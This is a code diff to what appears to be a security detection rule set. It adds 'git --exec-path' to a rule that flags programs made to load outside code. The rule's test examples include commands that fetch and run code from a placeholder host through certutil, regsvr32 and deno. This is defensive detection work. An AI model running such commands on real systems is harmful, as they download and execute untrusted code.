@@ -82,6 +82,8 @@ function loadsLibrary(call: Call): Hit {
       return args.some((arg) => /^[-/](?:decode|decodehex|urlcache|verifyctl)$/i.test(arg));
     case 'bitsadmin':
       return args.some((arg) => /^\/(?:transfer|addfile|setnotifycmdline)$/i.test(arg));
+    case 'git':
+      return call.args.some(({ text }) => /^--exec-path=./.test(text));
     case 'deno':
       return args.some((arg) => /^https?:\/\//.test(arg));
     default:
@@ -168,6 +170,7 @@ export const optionRules: readonly Rule[] = [
       'certutil',
       'bitsadmin',
       'deno',
+      'git',
     ],
     test: loadsLibrary,
     why: 'loads code from a file or an address into an ordinary program',
@@ -175,12 +178,14 @@ export const optionRules: readonly Rule[] = [
       'ssh-keygen -D ./lib.so',
       'rundll32 x.dll,Start',
       'deno run https://x.example/a.ts',
+      'git --exec-path=/tmp/x status',
       'certutil -urlcache -f http://x.example/a a.exe',
       'regsvr32 /s /u /i:http://x.example/a scrobj.dll',
     ],
     notMatch: [
       'ssh-keygen -t ed25519',
       'ssh-add -l',
+      'git --exec-path',
       'deno run main.ts',
       'certutil -hashfile a SHA256',
       'php -d memory_limit=1G a.php',
